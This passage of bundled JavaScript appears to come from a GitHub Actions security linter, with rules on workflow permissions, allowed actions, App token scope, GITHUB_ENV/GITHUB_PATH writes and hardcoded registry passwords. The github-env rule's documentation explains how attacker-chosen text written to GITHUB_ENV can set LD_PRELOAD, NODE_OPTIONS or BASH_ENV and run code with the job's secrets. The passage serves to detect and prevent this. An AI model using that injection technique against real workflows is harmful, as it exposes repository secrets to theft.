      message: jobCount > 1 ? `\`${scope.key}: write\` at workflow level is granted to ${jobCount === totalJobs ? `all ${jobCount} jobs` : `the ${jobCount} jobs without their own \`permissions:\``}${info ? ` (${info.write})` : ""}; grant it only in the jobs that need it${usage}` : `\`${scope.key}: write\` at workflow level${info ? ` (${info.write})` : ""}; prefer granting it in the job that needs it${usage}`,
      severity: info?.writeSeverity ?? "medium",
      confidence: "medium",
      persona: jobCount > 1 ? "regular" : "pedantic",
      ...jobCount > 0 ? { fixes: moveFixes } : {}
    });
  }
}
function needsSummary(result) {
  const known = result.scopes.map((scope) => `${scope.scope}: ${scope.level}`);
  if (result.unknowns.length > 0)
    return known.length > 0 ? `; it appears to need ${known.join(", ")} (and something the inference cannot tell)` : "";
  return known.length > 0 ? `; it appears to need only ${known.join(", ")}` : "; nothing in it appears to use the token";
}
function checkUnusedJobWrites(context, entry, job, resultOf) {
  if (!entry.value || !isMap(entry.value)) return;
  const scopes = new MapView(asMap(entry.value), context.file.doc).entries;
  if (!scopes.some((scope) => scalarText(scope.value) === "write")) return;
  const result = resultOf();
  if (result.unknowns.length > 0) return;
  for (const scope of scopes) {
    if (scalarText(scope.value) !== "write") continue;
    const needed = result.scopes.find((s) => s.scope === scope.key);
    if (needed?.level === "write" || result.tolerated.has(scope.key)) continue;
    const valueSpan = scope.valueSpan;
    const fixes = () => {
      let fix = null;
      if (needed) {
        fix = {
          title: `Reduce \`${scope.key}\` to \`read\``,
          isPreferred: true,
          safety: "unsafe",
          edits: [{ span: valueSpan, newText: "read" }]
        };
      } else if (scopes.length === 1) {
        const edit = replacePermissionsValue(context.file, entry, null);
        if (edit)
          fix = { title: `Remove \`${scope.key}: write\` (\`permissions: {}\`)`, isPreferred: true, safety: "unsafe", edits: [edit] };
      } else if (!asMap(entry.value).flow) {
        const edit = removeEntryLines(context.file, scope);
        if (edit) fix = { title: `Remove \`${scope.key}: write\``, isPreferred: true, safety: "unsafe", edits: [edit] };
      }
      const minimal = jobMinimalFix(context.file, job, result);
      return [...fix ? [fix] : [], ...minimal ? [{ ...minimal, isPreferred: false }] : []];
    };
    context.report({
      span: scope.keySpan,
      message: needed ? `\`${scope.key}: write\` in job \`${job.id}\`: its steps appear to need only \`${scope.key}: read\` (${[...new Set(needed.uses.map((use) => use.what))].slice(0, 3).join("; ")})` : `\`${scope.key}: write\` in job \`${job.id}\`: nothing in the job appears to use it`,
      severity: "low",
      confidence: "medium",
      persona: "pedantic",
      fixes
    });
  }
}
function missingPermissionsFixes(file, everyJobDeclares, inferred) {
  const jobs = file.workflow?.jobsEntry;
  const insert = (lines) => jobs ? insertLinesAbove(file, jobs.keySpan.start, lines) : appendLines(file, lines);
  const leastPrivilege = everyJobDeclares ? null : leastPrivilegeFix(file, inferred);
  const perJob = [];
  file.workflow?.jobs.forEach((job, index) => {
    if (job.permissions || everyJobDeclares || perJob.length >= 5) return;
    const fix = jobMinimalFix(file, job, inferred[index]);
    if (fix) perJob.push({ ...fix, title: `${fix.title.replace("this job", `job \`${job.id}\``)}`, isPreferred: false });
  });
  return [
    {
      title: "Add `permissions: {}` at workflow level",
      isPreferred: everyJobDeclares || !leastPrivilege,
      safety: everyJobDeclares ? "safe" : "unsafe",
      edits: [insert(["permissions: {}"])]
    },
    {
      title: "Add read-only `permissions: contents: read` at workflow level",
      isPreferred: false,
      safety: "unsafe",
      edits: [insert(["permissions:", `${indentStep(file)}contents: read`])]
    },
    ...leastPrivilege ? [leastPrivilege.fix] : [],
    ...perJob
  ];
}

// server/src/rules/forbidden-uses.ts
function matchesUsesPattern(pattern, uses) {
  const text = pattern.trim();
  if (text === "*") return true;
  const at = text.indexOf("@");
  const target = trimEndOf(at === -1 ? text : text.slice(0, at), "/");
  const ref2 = at === -1 ? null : text.slice(at + 1);
  if (ref2 !== null && ref2 !== "*" && ref2 !== uses.ref) return false;
  const [owner, repo, ...rest] = target.split("/");
  if (!owner || owner.toLowerCase() !== uses.owner.toLowerCase()) return false;
  if (repo === void 0 || repo === "*") return true;
  if (repo.toLowerCase() !== uses.repo.toLowerCase()) return false;
  if (rest.length === 0) return true;
  const path = rest.join("/");
  if (path === "*") return true;
  return uses.subpath !== null && (uses.subpath === path || uses.subpath.startsWith(`${path}/`));
}
function patterns(value) {
  if (!Array.isArray(value)) return null;
  return value.filter((item) => typeof item === "string");
}
var forbiddenUses = {
  id: "forbidden-uses",
  title: "Action not allowed by the configured policy",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `uses:` names an action that the configuration's `allow` list does not cover, or that its `deny` list names.",
    why: `Every third-party action runs with the job's token and secrets. Organisations that vet actions (as GitHub's own "allowed actions" policy does) need the editor to say so before CI does; the 2025 tj-actions/changed-files and reviewdog compromises hit repositories that had never decided whether they trusted those owners.`,
    fix: "Use an allowed action, or extend the policy in `.github/actions-warden.yml` (or `zizmor.yml`): `rules: { forbidden-uses: { config: { allow: [actions/*, astral-sh/setup-uv] } } }`."
  },
  check({ file, config, report: report2 }) {
    const allow = patterns(config.allow);
    const deny = allow ? null : patterns(config.deny);
    if (!allow && !deny) return;
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote") continue;
      const target = usesTarget(reference);
      const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
      if (allow) {
        if (!allow.some((pattern) => matchesUsesPattern(pattern, reference))) {
          report2({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
        }
      } else if (deny) {
        const hit = deny.find((pattern) => matchesUsesPattern(pattern, reference));
        if (hit) report2({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
      }
    }
  }
};

// server/src/knowledge/app-permissions.ts
var ORGANIZATION_APP_PERMISSIONS = /* @__PURE__ */ new Set([
  "members",
  "organization-administration",
  "organization-announcement-banners",
  "organization-copilot-seat-management",
  "organization-custom-org-roles",
  "organization-custom-properties",
  "organization-custom-roles",
  "organization-events",
  "organization-hooks",
  "organization-packages",
  "organization-personal-access-token-requests",
  "organization-personal-access-tokens",
  "organization-plan",
  "organization-projects",
  "organization-secrets",
  "organization-self-hosted-runners",
  "organization-user-blocking",
  "team-discussions"
]);
function isOrganizationPermissionInput(input2) {
  return input2.startsWith("permission-") && ORGANIZATION_APP_PERMISSIONS.has(input2.slice("permission-".length).toLowerCase());
}

// server/src/rules/github-app.ts
var APP_TOKEN_ACTIONS = /* @__PURE__ */ new Set(["actions/create-github-app-token"]);
var githubApp = {
  id: "github-app",
  title: "GitHub App token broader or longer-lived than needed",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`actions/create-github-app-token` with `skip-token-revoke: true`, with `owner:` but no `repositories:` (a token for every repository of the installation), or without any `permission-*` input (every permission the App has).",
    why: "App tokens are how hardened projects (Astral, the Trivy and Grafana post-mortems) replace long-lived PATs — but an App installation usually spans an organisation. In the 2025 Grafana incident an injected workflow stole exactly such credentials; a token scoped to one repository and a few permissions, revoked at the end of the job, limits what a thief can do and for how long.",
    fix: "Name the repositories (`repositories: repo-a`), request only the permissions used (`permission-contents: write`), and leave token revocation on."
  },
  check({ file, report: report2 }) {
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote" || !APP_TOKEN_ACTIONS.has(reference.repository.toLowerCase()) || !site.step) continue;
      const step = site.step;
      const inputs = step.with;
      const label = `Step \`${step.label}\``;
      const skip = inputs.string("skip-token-revoke");
      if (skip && skip.value.trim().toLowerCase() === "true") {
        report2({
          span: skip.span,
          message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour`
        });
      }
      const owner = inputs.get("owner");
      const permissions = inputs.entries.filter((entry) => entry.key.startsWith("permission-"));
      const organizationOnly = permissions.length > 0 && permissions.every((entry) => isOrganizationPermissionInput(entry.key));
      if (owner && !inputs.has("repositories") && !organizationOnly) {
        report2({
          span: owner.keySpan,
          message: `${label} sets \`owner\` without \`repositories\`, so the token can act on every repository the App is installed on`,
          confidence: "medium"
        });
      }
      if (permissions.length === 0) {
        report2({
          span: site.entry.valueSpan,
          message: `${label} requests no \`permission-*\` inputs, so the token carries every permission granted to the App: request only what the job uses`,
          severity: "medium"
        });
      }
    }
  }
};

// server/src/rules/support/shell-text.ts
var isWordChar2 = (ch) => ch !== void 0 && (ch >= "a" && ch <= "z" || ch >= "A" && ch <= "Z" || ch >= "0" && ch <= "9" || ch === "_");
var isNameStart = (ch) => ch !== void 0 && (ch >= "a" && ch <= "z" || ch >= "A" && ch <= "Z" || ch === "_");
var isSpace = (ch) => ch !== void 0 && /\s/.test(ch);
var lastValidatedScript = null;
var lastValidated = /* @__PURE__ */ new Set();
function validatedNames(script) {
  if (script === lastValidatedScript) return lastValidated;
  const names = /* @__PURE__ */ new Set();
  for (const operator of ["=~", "-match"]) {
    for (let at = script.indexOf(operator); at !== -1; at = script.indexOf(operator, at + 1)) {
      let after = at + operator.length;
      while (isSpace(script[after])) after++;
      if (script[after] === "'" || script[after] === '"') after++;
      if (script[after] !== "^") continue;
      let end = at;
      while (end > 0 && isSpace(script[end - 1])) end--;
      if (script[end - 1] === '"') end--;
      if (script[end - 1] === "}") end--;
      let start = end;
      while (start > 0 && isWordChar2(script[start - 1])) start--;
      if (start === end) continue;
      const dollar = script[start - 1] === "$" ? start - 1 : script[start - 1] === "{" && script[start - 2] === "$" ? start - 2 : -1;
      if (dollar !== -1) names.add(script.slice(start, end));
    }
  }
  lastValidatedScript = script;
  lastValidated = names;
  return names;
}
function nameAt(text, start) {
  if (!isNameStart(text[start])) return null;
  let end = start + 1;
  while (isWordChar2(text[end])) end++;
  return text.slice(start, end);
}
function nextPiece(text, from, lastFence, lastBrace) {
  for (let i = from; i < text.length; i++) {
    const ch = text[i];
    if (ch === "`") return { index: i, text: ch };
    if (ch === "%") {
      const name2 = nameAt(text, i + 1);
      if (name2 && text[i + 1 + name2.length] === "%") return { index: i, text: `%${name2}%`, name: name2 };
      continue;
    }
    if (ch !== "$") continue;
    const next = text[i + 1];
    if (text.startsWith("${{", i)) {
      if (i + 3 <= lastFence) {
        const close = text.indexOf("}}", i + 3);
        return { index: i, text: text.slice(i, close + 2) };
      }
      continue;
    }
    if (text.startsWith("$env:", i)) {
      const name2 = nameAt(text, i + 5);
      if (name2) return { index: i, text: `$env:${name2}`, name: name2 };
    }
    if (text.startsWith("${env:", i)) {
      const name2 = nameAt(text, i + 6);
      if (name2 && text[i + 6 + name2.length] === "}") return { index: i, text: `\${env:${name2}}`, name: name2 };
    }
    if (next === "(") return { index: i, text: text[i + 2] === "(" ? "$((" : "$(" };
    if (next === "{") {
      const hash = text[i + 2] === "#" ? 1 : 0;
      const name2 = nameAt(text, i + 2 + hash);
      if (name2) {
        const nameEnd = i + 2 + hash + name2.length;
        if (nameEnd <= lastBrace) return { index: i, text: text.slice(i, text.indexOf("}", nameEnd) + 1), name: name2 };
      }
      continue;
    }
    const name = nameAt(text, i + 1);
    if (name) return { index: i, text: `$${name}`, name };
    if (next !== void 0 && "0123456789@*#?!-".includes(next)) return { index: i, text: `$${next}` };
  }
  return null;
}

// server/src/rules/support/numeric-output.ts
var NUMERIC_FIELDS = [".number", ".id", ".databaseId", ".total_count", ".run_number", ".run_attempt", ".run_id", ".workflow_id"];
function numericFilter(filter) {
  const text = filter.trim();
  if (text === "length" || text.endsWith("| length") || text.endsWith("|length")) return true;
  return NUMERIC_FIELDS.some((field) => text.endsWith(field) && !/[\w$]/.test(text[text.length - field.length - 1] ?? ""));
}
function closingParen(text, from) {
  let depth = 1;
  let quote2 = null;
  for (let i = from; i < text.length; i++) {
    const ch = text[i];
    if (quote2) {
      if (ch === "\\" && quote2 === '"') i++;
      else if (ch === quote2) quote2 = null;
      continue;
    }
    if (ch === "\\") i++;
    else if (ch === "'" || ch === '"') quote2 = ch;
    else if (ch === "(") depth++;
    else if (ch === ")" && --depth === 0) return i + 1;
  }
  return -1;
}
function shortFlags(word) {
  if (word.length < 2 || word[0] !== "-" || word[1] === "-") return "";
  for (let i = 1; i < word.length; i++) if (!/[a-zA-Z]/.test(word[i])) return "";
  return word.slice(1);
}
function numericCommand(command, files) {
  const rest = args(command);
  switch (command.name) {
    case "wc":
      return rest.some((word) => /^--(lines|bytes|words|chars)$/.test(word.text) || /^[lcwm]+$/.test(shortFlags(word.text))) && !rest.some((word) => word.text.includes("$"));
    case "grep":
    case "egrep":
    case "fgrep":
      return rest.some((word) => word.text === "--count" || shortFlags(word.text).includes("c")) && positionals(command).length <= 2;
    case "gh": {
      const index = rest.findIndex((word2) => word2.text === "--jq" || word2.text === "-q" || word2.text.startsWith("--jq="));
      if (index === -1) return false;
      const word = rest[index];
      const filter = word.text.startsWith("--jq=") ? word.text.slice("--jq=".length) : rest[index + 1]?.text;
      return filter !== void 0 && numericFilter(filter);
    }
    case "jq": {
      const filter = positionals(command)[0]?.text;
      return filter !== void 0 && /^(length|\.\s*\|\s*length|\.\[\]\s*\|\s*length)$/.test(filter.trim());
    }
    case "cat": {
      const named = positionals(command);
      return named.length === 1 && files.has(named[0].text);
    }
    case "":
      return command.redirects.length === 1 && command.redirects[0].op === "<" && files.has(command.redirects[0].target?.text ?? "\0");
    default:
      return false;
  }
}
function numericScript(script, files) {
  const top = script.commands.filter((command) => !command.inSubstitution);
  if (top.length === 0) return false;
  const last = top[top.length - 1];
  if (top.some((command) => command.pipeline !== last.pipeline)) return false;
  return numericCommand(last, files);
}
function wholeSubstitution(value) {
  let text = value;
  if (text.length >= 2 && text.startsWith('"') && text.endsWith('"')) text = text.slice(1, -1);
  if (!text.startsWith("$(")) return null;
  return closingParen(text, 2) === text.length ? text.slice(2, -1) : null;
}
function numericSubstitution(inner, files) {
  if (inner.startsWith("(") && inner.endsWith(")")) return true;
  return numericScript(parseShell(inner), files);
}
var factsMemo = /* @__PURE__ */ new WeakMap();
function numericFacts(script) {
  const cached = factsMemo.get(script);
  if (cached) return cached;
  const files = /* @__PURE__ */ new Set();
  const notFiles = /* @__PURE__ */ new Set();
  const commands = script.commands.filter((command) => !command.inSubstitution);
  for (const command of commands) {
    for (const redirect of command.redirects) {
      const target = redirect.target?.text;
      if (!target || !redirect.op.includes(">") || redirect.op.includes("&") || /^\d*>&/.test(redirect.op)) continue;
      const last = !command.pipesTo;
      if (last && !target.includes("$") && numericCommand(command, files) && !notFiles.has(target)) files.add(target);
      else {
        notFiles.add(target);
        files.delete(target);
      }
    }
  }
  const variables = /* @__PURE__ */ new Set();
  const notVariables = /* @__PURE__ */ new Set();
  const text = (name) => {
    notVariables.add(name);
    variables.delete(name);
  };
  for (const command of commands) {
    if (command.name === "read" || command.name === "mapfile" || command.name === "readarray" || command.name === "getopts")
      for (const word of positionals(command)) text(word.text);
    if (command.name === "for" && command.argv[1]) text(command.argv[1].text);
    const assignments = [...command.assignments];
    if (command.argv.length === 0 || ["export", "local", "declare", "readonly", "typeset"].includes(command.name))
      assignments.push(...args(command).filter((word) => /^[A-Za-z_]\w*=/.test(word.raw)));
    for (const word of assignments) {
      const eq = word.raw.indexOf("=");
      const name = word.raw.slice(0, eq);
      if (!/^[A-Za-z_]\w*$/.test(name)) continue;
      const value = word.raw.slice(eq + 1);
      const inner = wholeSubstitution(value);
      const numeric = /^"?\d+"?$/.test(value) || inner !== null && numericSubstitution(inner, files);
      if (numeric && !notVariables.has(name)) variables.add(name);
      else text(name);
    }
  }
  const facts = { files, variables };
  factsMemo.set(script, facts);
  return facts;
}

// server/src/rules/github-env.ts
var PRIVILEGED_TRIGGERS = ["pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"];
var TARGET = /^(?:\$\{?GITHUB_(ENV|PATH)\}?|\$env:GITHUB_(ENV|PATH)|\$\{env:GITHUB_(ENV|PATH)\}|%GITHUB_(ENV|PATH)%|\$\{\{\s*(?:github\.(env|path)|env\.GITHUB_(ENV|PATH))\s*\}\})$/i;
var MENTIONS_TARGET = /github_(?:env|path)|github\.(?:env|path)/i;
function targetOf(word) {
  if (!word) return null;
  const found = TARGET.exec(word.text.trim());
  if (!found) return null;
  const which = found.slice(1).find((group) => group !== void 0) ?? "env";
  return which.toLowerCase() === "path" ? "GITHUB_PATH" : "GITHUB_ENV";
}
var PRINTERS = /* @__PURE__ */ new Set(["echo", "printf", "write-output", "write-host", "echo.", "write", "print"]);
var FILE_WRITERS = /* @__PURE__ */ new Set(["tee", "tee-object", "out-file", "add-content", "set-content", "ac", "sc"]);
var SAFE_SUBSTITUTIONS = /^(date|pwd|nproc|uname|whoami|id|mktemp|dirname|basename|realpath|cygpath|getconf|echo\s+\$HOME)\b|^git\s+rev-parse(?![^)]*(abbrev-ref|symbolic))/;
var FIXED_VARIABLES = new Set(
  [
    "HOME",
    "PWD",
    "PATH",
    "USER",
    "TMPDIR",
    "TEMP",
    "TMP",
    "USERPROFILE",
    "LOCALAPPDATA",
    "APPDATA",
    "PROGRAMFILES",
    "SYSTEMROOT",
    "RUNNER_TEMP",
    "RUNNER_TOOL_CACHE",
    "RUNNER_OS",
    "RUNNER_ARCH",
    "RUNNER_NAME",
    "RUNNER_WORKSPACE",
    "RUNNER_ENVIRONMENT",
    "GITHUB_ENV",
    "GITHUB_PATH",
    "GITHUB_OUTPUT",
    "GITHUB_STATE",
    "GITHUB_STEP_SUMMARY",
    "GITHUB_ACTION_PATH",
    "GITHUB_REF_PROTECTED",
    "GITHUB_RETENTION_DAYS",
    "ImageOS",
    "ImageVersion",
    "JAVA_HOME",
    "ANDROID_HOME",
    "ANDROID_SDK_ROOT",
    "CONDA",
    "VCPKG_INSTALLATION_ROOT",
    "pythonLocation",
    "Python_ROOT_DIR"
  ].map((name) => name.toUpperCase())
);
function envLevels(context) {
  const levels = [context.step.env];
  if (context.job) levels.push(context.job.env);
  if (context.file.workflow) levels.push(context.file.workflow.env);
  return levels;
}
function expressionTaint(text, scope) {
  let verdict2 = null;
  let any = false;
  for (const occurrence of findExpressions(text)) {
    const ast = occurrence.parsed.ast;
    if (!ast) {
      any = true;
      continue;
    }
    for (const leaf of valueLeaves(ast)) {
      if (leaf.type === "literal") continue;
      const path = contextPath(leaf, { computedIndexAsWildcard: true });
      if (!path) {
        any = true;
        continue;
      }
      if (/^secrets\./.test(path)) {
        any = true;
        continue;
      }
      const found = assessPath(path, scope);
      if (!found) continue;
      any = true;
      const callerChosen = scope.file.action !== null && path.startsWith("inputs.");
      if (!callerChosen && found.capability === "arbitrary" && found.severity === "high" && (!verdict2 || verdict2.severity !== "high"))
        verdict2 = { ...found, reason: `\`${path}\`: ${found.reason}` };
    }
  }
  if (verdict2) return { kind: "tainted", reason: verdict2.reason };
  return any ? { kind: "dynamic", what: text.trim() } : { kind: "literal" };
}
function variableTaint(name, context) {
  let taint = context.variables.get(name);
  if (!taint) {
    taint = readVariableTaint(name, context);
    context.variables.set(name, taint);
  }
  return taint;
}
function readVariableTaint(name, context) {
  const upper = name.toUpperCase();
  const runnerContext = Object.entries(RUNNER_ENV).find(([, variable]) => variable === upper)?.[0];
  if (runnerContext) {
    const verdict2 = assessPath(runnerContext, context.scope);
    if (!verdict2) return { kind: "literal" };
    if (verdict2.capability === "arbitrary" && verdict2.severity === "high")
      return { kind: "tainted", reason: `\`$${upper}\` (\`${runnerContext}\`): ${verdict2.reason}` };
    return { kind: "dynamic", what: `$${name}` };
  }
  if (FIXED_VARIABLES.has(upper)) return { kind: "literal" };
  if (validated(name, context.scriptText)) return { kind: "literal" };
  for (const level of envLevels(context)) {
    const entry = level.entries.find((candidate) => candidate.key === name);
    if (!entry) continue;
    const text = scalarText(entry.value);
    if (text === null) return { kind: "dynamic", what: `$${name}` };
    const taint = expressionTaint(text, context.scope);
    return taint.kind === "tainted" ? { kind: "tainted", reason: `\`$${name}\`, set from ${taint.reason}` } : taint.kind === "dynamic" ? { kind: "dynamic", what: `$${name}` } : taint;
  }
  if (context.numeric?.variables.has(name)) return { kind: "literal" };
  return { kind: "dynamic", what: `$${name}` };
}
function validated(name, script) {
  return validatedNames(script).has(name);
}
function combine(a, b) {
  if (a.kind === "tainted") return a;
  if (b.kind === "tainted") return b;
  if (a.kind === "dynamic") return a;
  return b;
}
function textTaint(raw, context, singleQuotesAreLiteral) {
  const { text, rawAt } = singleQuotesAreLiteral ? emptySingleQuotes(raw) : { text: raw, rawAt: null };
  let result = { kind: "literal" };
  const lastFence = text.lastIndexOf("}}");
  const lastBrace = text.lastIndexOf("}");
  const lastParen = text.lastIndexOf(")");
  let from = 0;
  let unbalanced = false;
  for (let match = nextPiece(text, 0, lastFence, lastBrace); match; match = nextPiece(text, from, lastFence, lastBrace)) {
    const piece = match.text;
    from = match.index + piece.length;
    let taint;
    if (piece.startsWith("${{")) taint = expressionTaint(piece, context.scope);
    else if (piece === "$(" || piece === "$((" || piece === "`") {
      const start = match.index + piece.length;
      const balanced = piece !== "`" && !unbalanced && start <= lastParen ? closingParen(text, match.index + 2) : -1;
      if (piece === "$((") {
        if (balanced !== -1) from = balanced;
        else unbalanced = true;
        continue;
      }
      if (piece === "$(" && balanced === -1) unbalanced = true;
      const close = piece === "`" ? text.indexOf("`", start) : balanced !== -1 ? balanced - 1 : start <= lastParen ? text.indexOf(")", start) : -1;
      const inner = close === -1 ? "" : text.slice(start, close);
      taint = SAFE_SUBSTITUTIONS.test(inner.trim()) && !inner.includes("$") || close !== -1 && context.numeric !== null && numericSubstitution(rawAt ? raw.slice(rawAt[start], rawAt[close]) : inner, context.numeric.files) ? { kind: "literal" } : { kind: "dynamic", what: `${piece}${inner}${piece === "`" ? "`" : ")"}` };
      if (piece === "`") from = match.index + 1 + inner.length + 1;
      else from = match.index + piece.length + inner.length;
    } else {
      taint = match.name ? variableTaint(match.name, context) : { kind: "dynamic", what: piece };
    }
    result = combine(result, taint);
    if (result.kind === "tainted") return result;
  }
  return result;
}
function emptySingleQuotes(raw) {
  let text = "";
  const rawAt = [];
  for (let i = 0; i < raw.length; i++) {
    const close = raw[i] === "'" ? raw.indexOf("'", i + 1) : -1;
    rawAt.push(i);
    if (close === -1) {
      text += raw[i];
      continue;
    }
    rawAt.push(close);
    text += "''";
    i = close;
  }
  rawAt.push(raw.length);
  return { text, rawAt };
}
function printedTaint(command, context) {
  if (command.heredocs.length > 0 && (command.name === "cat" || PRINTERS.has(command.name))) {
    let result2 = { kind: "literal" };
    for (const heredoc of command.heredocs)
      result2 = combine(result2, heredoc.quoted ? expressionTaint(heredoc.body, context.scope) : textTaint(heredoc.body, context, false));
    return result2;
  }
  const first = command.argv[0];
  const bareString = first && first.quoted && command.argv.length === 1;
  if (!PRINTERS.has(command.name) && !bareString)
    return { kind: "dynamic", what: command.name ? `the output of \`${command.name}\`` : "a command's output" };
  let result = { kind: "literal" };
  for (const word of bareString ? command.argv : args(command)) result = combine(result, textTaint(word.raw, context, true));
  return result;
}
function writesOf(script, context) {
  const found = [];
  const commands = script.commands;
  for (let index = 0; index < commands.length; index++) {
    const command = commands[index];
    for (const redirect of command.redirects) {
      if (!redirect.op.includes(">")) continue;
      const target2 = targetOf(redirect.target);
      if (!target2 || !redirect.target) continue;
      const compound = ["}", "done", "fi", "esac", ")"].includes(command.name);
      found.push({
        target: target2,
        word: redirect.target,
        taint: compound ? { kind: "dynamic", what: "a block's output" } : printedTaint(command, context)
      });
    }
    if (!FILE_WRITERS.has(command.name)) continue;
    const words2 = args(command);
    const targetWord = words2.find((word) => targetOf(word) !== null) ?? words2.map((word) => ({ word, text: word.text.replace(/^-[A-Za-z]+:/, "") })).find((w2) => targetOf({ ...w2.word, text: w2.text }))?.word;
    if (!targetWord) continue;
    const target = targetOf(targetWord) ?? targetOf({ ...targetWord, text: targetWord.text.replace(/^-[A-Za-z]+:/, "") });
    let taint;
    if (command.name === "add-content" || command.name === "set-content" || command.name === "ac" || command.name === "sc") {
      taint = { kind: "literal" };
      for (const word of words2) {
        if (word === targetWord || /^-/.test(word.text)) continue;
        taint = combine(taint, textTaint(word.raw, context, true));
      }
    } else {
      let upstream = null;
      for (let i = index - 1; i >= 0; i--) {
        const candidate = commands[i];
        if (candidate.inSubstitution !== command.inSubstitution) continue;
        if (candidate.pipesTo && command.connector === "|") upstream = candidate;
        break;
      }
      taint = upstream ? printedTaint(upstream, context) : { kind: "dynamic", what: `the input of \`${command.name}\`` };
    }
    found.push({ target, word: targetWord, taint });
  }
  return found;
}
var NON_SHELLS = /^(python|node|perl|ruby|deno|bun)\b/i;
function describe(taint) {
  if (taint.kind === "tainted") return `text an outsider chooses (${taint.reason})`;
  if (taint.kind === "dynamic") return `computed text (\`${taint.what.length > 60 ? `${taint.what.slice(0, 60)}…` : taint.what}\`)`;
  return "literal text";
}
var githubEnv = {
  id: "github-env",
  title: "Computed text written to GITHUB_ENV or GITHUB_PATH in a privileged context",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "low",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `run:` step (bash, sh, pwsh or cmd) or `actions/github-script` writes computed text to `GITHUB_ENV` or `GITHUB_PATH` in a workflow that outsiders can trigger with privileges (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, `discussion*`) or in a composite action.",
    why: "Every line of `GITHUB_ENV` becomes an environment variable of the later steps, and every line of `GITHUB_PATH` a directory searched first for commands. If an attacker chooses part of that text (a branch name with a newline, an artifact or file from a pull request), they set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put their directory in front of `PATH`, and run code with the job's secrets. GitHub disabled `::set-env::` in 2020 (CVE-2020-15228) for this reason; the environment files inherited the risk.",
    fix: 'Keep untrusted values out of the environment files: use step outputs (`GITHUB_OUTPUT`) and pass them to later steps through `env:`, validate the value first (`[[ "$V" =~ ^[0-9.]+$ ]]`), or write only literals. When a multi-line value must go to `GITHUB_ENV`, use the `NAME<<DELIMITER` form with a random delimiter.'
  },
  check({ file, report: report2 }) {
    let severity;
    let context;
    if (file.workflow) {
      const triggers = scopeTriggers(file) ?? [];
      const privileged = triggers.filter((trigger) => PRIVILEGED_TRIGGERS.includes(trigger));
      if (privileged.length === 0) return;
      severity = "high";
      context = `a workflow triggered by ${privileged.map((t) => `\`${t}\``).join(", ")}`;
    } else if (file.action?.isComposite) {
      severity = "medium";
      context = "a composite action (its callers may run it on untrusted input)";
    } else return;
    const emit = (write, how) => {
      if (write.taint.kind === "literal") return;
      const tainted = write.taint.kind === "tainted";
      const confidence = tainted ? "high" : "low";
      const quiet = !file.workflow && !tainted && !(write.taint.kind === "dynamic" && /inputs\./.test(write.taint.what));
      report2({
        span: write.span,
        message: `${how} writes ${describe(write.taint)} to \`${write.target}\` in ${context}: ${write.target === "GITHUB_PATH" ? "later steps look for commands in that directory first" : "later steps run with whatever variables that text sets (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`)"}`,
        severity: tainted ? "high" : quiet ? "low" : severity,
        confidence,
        persona: quiet ? "pedantic" : "regular"
      });
    };
    for (const script of runScripts(file)) {
      if (!MENTIONS_TARGET.test(script.script.text) || NON_SHELLS.test(script.shell.trim())) continue;
      if (script.input?.place === "remote") continue;
      const ctx = contextFor(file, script.step, script.job, script.script.text, numericFacts(script.script));
      for (const write of writesOf(script.script, ctx))
        emit({ target: write.target, span: spanOf(script, write.word), taint: write.taint }, "This step");
    }
    for (const { step, job } of allSteps(file)) {
      const uses = scalarText(step.uses?.value ?? null);
      if (!uses) continue;
      const reference = parseUses(uses);
      if (reference.kind !== "remote" || reference.repository.toLowerCase() !== "actions/github-script") continue;
      const entry = step.with.get("script");
      const script = scalarText(entry?.value ?? null);
      if (!entry || script === null) continue;
      const map2 = scalarOffsetMapper(entry.value, file.text);
      const ctx = contextFor(file, step, job, script, null);
      const call = /core\.(exportVariable|addPath)\s*\(/g;
      for (let match = call.exec(script); match; match = call.exec(script)) {
        const argsText = argumentText(script, match.index + match[0].length);
        const taint = /^\s*(?:'[^'$\\]*'|"[^"$\\]*")\s*(?:,\s*(?:'[^'$\\]*'|"[^"$\\]*")\s*)?$/.test(argsText) ? { kind: "literal" } : jsTaint(argsText, ctx);
        const start = map2(match.index);
        emit(
          {
            target: match[1] === "addPath" ? "GITHUB_PATH" : "GITHUB_ENV",
            span: { start, end: Math.max(start, map2(match.index + match[0].length - 1)) },
            taint
          },
          `\`core.${match[1]}\``
        );
      }
    }
  }
};
function argumentText(script, from) {
  let depth = 1;
  for (let i = from; i < script.length && i < from + 2e3; i++) {
    if (script[i] === "(") depth++;
    else if (script[i] === ")" && --depth === 0) return script.slice(from, i);
  }
  return script.slice(from, from + 200);
}
function jsTaint(text, context) {
  const expressions = expressionTaint(text, context.scope);
  if (expressions.kind === "tainted") return expressions;
  return { kind: "dynamic", what: text.trim() };
}
function contextFor(file, step, job, scriptText, numeric) {
  return { scriptText, variables: /* @__PURE__ */ new Map(), file, step, job, numeric, scope: { file, job, step, triggers: scopeTriggers(file) } };
}
function spanOf(script, word) {
  return script.sourceSpan(word.span);
}

// server/src/rules/hardcoded-container-credentials.ts
function checkCredentials(ctx, where, node, doc) {
  const container = asMap(node);
  if (!container) return;
  const credentials = new MapView(asMap(new MapView(container, doc).get("credentials")?.value ?? null), doc);
  const password = spannedString(credentials.get("password")?.value ?? null);
  if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
  ctx.report({
    span: password.span,
    message: `${where} has a registry password written in the workflow: anyone who can read the repository can use it. Use \`\${{ secrets.… }}\``
  });
}
var hardcodedContainerCredentials = {
  id: "hardcoded-container-credentials",
  title: "Container registry password written in the workflow",
  kinds: ["workflow"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
